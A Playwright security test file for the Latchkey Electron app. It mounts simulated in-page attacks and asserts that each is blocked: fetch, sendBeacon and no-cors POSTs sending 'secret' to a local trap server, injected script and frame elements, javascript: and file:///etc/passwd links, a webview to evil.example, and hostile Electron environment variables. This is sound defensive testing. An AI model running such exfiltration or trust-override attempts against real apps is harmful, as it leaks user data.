import { createServer, type Server } from 'node:http';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { project } from '../support/build.ts';
import { launchPreview, type Preview } from '../support/electron-preview/index.ts';
import { startAuthority, type LocalAuthority } from '../support/start/authority.ts';
import type { AppSnapshot, LatchkeyBridge } from '../../src-shared/ipc.ts';
import type { Result } from '../../src-shared/result.ts';

/**
 * Attacks from inside the page, as if a defect had let a script in, and on the packaged app's start. They run main's real
 * program on the stand-in; a server beside it counts what gets out.
 */
const main = join(project, 'out/main/main.js');
let folder = '';
let app: Preview | null = null;
let authority: LocalAuthority | null = null;
let trap: Server;
let trapAddress = '';
const caught: string[] = [];

test.beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'latchkey-attack-'));
  caught.length = 0;
  trap = createServer((request, response) => {
    caught.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    response.end('caught');
  });
  trap.on('upgrade', (request, socket) => {
    caught.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((ready) => trap.listen(0, '127.0.0.1', ready));
  trapAddress = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
});
test.afterEach(async () => {
  await app?.kill();
  app = null;
  authority?.process?.kill('SIGKILL');
  authority = null;
  trap.closeAllConnections();
  await new Promise((closed) => trap.close(closed));
  rmSync(folder, { recursive: true, force: true });
});

const open = async (page: Page, env: Readonly<Record<string, string | undefined>> = {}): Promise<Preview> => {
  app = await launchPreview({ main, env: { LATCHKEY_HOME: join(folder, 'home'), LATCHKEY_AUTHORITY: '', LATCHKEY_TRUST: undefined, ...env } });
  await page.goto(app.url);
  // The first page may lead on to another, which changes the address.
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  return app;
};
const snapshot = async (page: Page): Promise<AppSnapshot> => {
  const result = await page.evaluate(() => (globalThis as unknown as { latchkey: LatchkeyBridge }).latchkey.call('app.snapshot', null)) as Result<AppSnapshot>;
  if (!result.ok) throw new Error(result.code);
  return result.value;
};
/** Long enough for what was set off to get out, were it let. */
const aMoment = (page: Page): Promise<void> => page.waitForTimeout(700);

test('the trap catches what gets out, so that nothing caught means something', async ({ page }) => {
  await page.goto(`${trapAddress}/open`);
  await page.evaluate((address) => fetch(`${address}/fetched`), trapAddress);
  expect(caught).toEqual(expect.arrayContaining(['GET /open', 'GET /fetched']));
});

test('nothing gets out of the page: fetch, socket, stream, beacon, picture, style, script, font, frame, object, worker, form', async ({ page }) => {
  await open(page);
  await page.evaluate((address) => {
    const quiet = (attempt: () => unknown): void => {
      try {
        void Promise.resolve(attempt()).catch(() => undefined);
      } catch {
        // Refused on the spot.
      }
    };
    const put = (name: string, values: Readonly<Record<string, string>>): HTMLElement => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(values)) quiet(() => element.setAttribute(key, value));
      quiet(() => document.body.append(element));
      return element;
    };
    quiet(() => fetch(`${address}/fetch`));
    quiet(() => fetch(`${address}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'secret' }));
    quiet(() => new WebSocket(`${address.replace('http', 'ws')}/socket`));
    quiet(() => new EventSource(`${address}/stream`));
    quiet(() => navigator.sendBeacon(`${address}/beacon`, 'secret'));
    quiet(() => new Worker(`${address}/worker`));
    quiet(() => import(/* @vite-ignore */ `${address}/module.js`));
    quiet(() => new FontFace('trap', `url(${address}/font)`).load());
    put('img', { src: `${address}/picture` });
    put('script', { src: `${address}/script` });
    put('link', { rel: 'stylesheet', href: `${address}/style` });
    put('link', { rel: 'prefetch', href: `${address}/prefetch` });
    put('iframe', { src: `${address}/frame` });
    put('object', { data: `${address}/object` });
    put('embed', { src: `${address}/embed` });
    put('video', { src: `${address}/video` });
    put('div', { style: `background: url(${address}/background)` });
    const form = put('form', { action: `${address}/form`, method: 'post' }) as HTMLFormElement;
    quiet(() => form.submit());
  }, trapAddress);
  await aMoment(page);
  expect(caught).toEqual([]);
});

test('the page goes nowhere, by no way, and nothing opens beside it', async ({ page }) => {
  const running = await open(page);
  await expect(page).toHaveURL(/#\/exchange$/);
  const address = page.url();
  const ways = {
    'a link': (to: string) => { const link = document.createElement('a'); link.href = to; document.body.append(link); link.click(); },
    'a link to a new window': (to: string) => { const link = document.createElement('a'); link.href = to; link.target = '_blank'; document.body.append(link); link.click(); },
    'the location': (to: string) => { location.href = to; },
    'the location replaced': (to: string) => { location.replace(to); },
    'window.open': (to: string) => { globalThis.open(to); },
    'window.open in place': (to: string) => { globalThis.open(to, '_self'); },
    'a form': (to: string) => { const form = document.createElement('form'); form.action = to; document.body.append(form); form.submit(); },
  } as const;
  for (const [way, go] of Object.entries(ways)) {
    await page.evaluate(go as (to: string) => void, `${trapAddress}/${encodeURIComponent(way)}`);
    await page.waitForTimeout(120);
    expect(page.url(), way).toBe(address);
  }
  // With the middle button: main is asked, and the browser's own way is kept from it.
  expect(await page.evaluate((to) => {
    const link = document.createElement('a');
    link.href = to;
    document.body.append(link);
    return !link.dispatchEvent(new MouseEvent('auxclick', { button: 1, bubbles: true, cancelable: true }));
  }, `${trapAddress}/middle`)).toBe(true);
  for (const scheme of ['javascript:globalThis.ran = true', 'data:text/html,<script>1</script>', 'file:///etc/passwd', 'blob:null/1']) {
    await page.evaluate((to) => { const link = document.createElement('a'); link.setAttribute('href', to); document.body.append(link); link.click(); }, scheme).catch(() => undefined);
  }
  await aMoment(page);
  expect(page.url()).toBe(address);
  expect(page.context().pages()).toHaveLength(1);
  expect(caught).toEqual([]);
  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  expect(await running.asked(), 'nothing is handed to the system either').toEqual([]);
});

test('a frame or a webview put into the page is nobody', async ({ page }) => {
  await open(page);
  const inside = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const view = document.createElement('webview');
    view.setAttribute('src', 'https://evil.example/');
    document.body.append(view);
    await new Promise((loaded) => setTimeout(loaded, 300));
    return { bridge: frame.contentWindow !== null && 'latchkey' in frame.contentWindow, webview: view.constructor.name };
  });
  expect(inside).toEqual({ bridge: false, webview: 'HTMLElement' });
});

test('permissions are neither given nor asked for', async ({ page }) => {
  const running = await open(page);
  for (const permission of ['media', 'camera', 'microphone', 'geolocation', 'notifications', 'clipboard-read', 'midi', 'pointerLock', 'fullscreen', 'openExternal', 'hid', 'serial', 'usb', 'idle-detection', 'window-management']) {
    expect(await running.permission(permission), permission).toEqual({ request: false, check: false });
  }
});

test('what a page asks for by the web\'s own ways reaches the handlers and is refused, and copying a text still works', async ({ page }) => {
  authority = await startAuthority(folder, 0);
  const running = await open(page, { LATCHKEY_AUTHORITY: authority.url, LATCHKEY_TRUST: authority.keyset });
  const outcome = await page.evaluate(async () => {
    const nameOf = (promise: Promise<unknown>) => promise.then(() => 'granted', (error: Error) => error.name);
    return [
      await Notification.requestPermission(), (await navigator.permissions.query({ name: 'geolocation' })).state,
      await new Promise((resolve) => { navigator.geolocation.getCurrentPosition(() => resolve('granted'), ({ code }) => resolve(code)); }),
      await nameOf(navigator.clipboard.readText()), await nameOf(navigator.clipboard.writeText('x')), await nameOf(navigator.mediaDevices.getUserMedia({ audio: true, video: true })),
    ];
  });
  expect(outcome).toEqual(['denied', 'denied', 1, 'NotAllowedError', 'NotAllowedError', 'NotAllowedError']);
  const answers = await running.permissionAnswers();
  expect(answers.map(({ how, permission }) => `${how} ${permission}`)).toEqual(expect.arrayContaining(['request notifications', 'check geolocation', 'request geolocation', 'request clipboard-read', 'check clipboard-sanitized-write', 'request media']));
  expect(answers.filter(({ granted }) => granted)).toEqual([]);

  await page.evaluate(() => { location.hash = '#/exchange'; });
  await page.getByRole('button', { name: 'Copy the address of the portal' }).first().click();
  await expect(page.getByRole('button', { name: 'Copied' }).or(page.getByText('Copied')).first()).toBeVisible();
  await page.evaluate(() => { const place = document.createElement('textarea'); place.id = 'paste-here'; document.body.prepend(place); place.focus(); });
  await page.keyboard.press('Control+V');
  await expect(page.locator('#paste-here')).toHaveValue(new URL('/offline-machines', authority.url).href);
});

test.describe('the packaged app', () => {
  const hostile = () => ({ LATCHKEY_AUTHORITY: authority?.url, LATCHKEY_TRUST: authority?.keyset, ELECTRON_RUN_AS_NODE: '1', ELECTRON_NO_ASAR: '1', NODE_EXTRA_CA_CERTS: join(folder, 'evil.pem') });

  test('does not let its environment say whom to trust and where to go', async ({ page }) => {
    authority = await startAuthority(folder, 0);
    writeFileSync(join(folder, 'evil.pem'), 'not a certificate');
    await open(page, { ...hostile(), ELECTRON_PREVIEW_PACKAGED: '1' });
    const { state } = await snapshot(page);
    expect(state.connection).toMatchObject({ state: 'none', url: null, authority: null });
  });

  test('an unpackaged run with the same environment does, so that the test above can fail', async ({ page }) => {
    authority = await startAuthority(folder, 0);
    await open(page, hostile());
    const { state } = await snapshot(page);
    expect(state.connection.url?.replace(/\/$/, '')).toBe(authority.url);
    expect(state.connection.authority).toMatch(/^aut_/);
  });
});
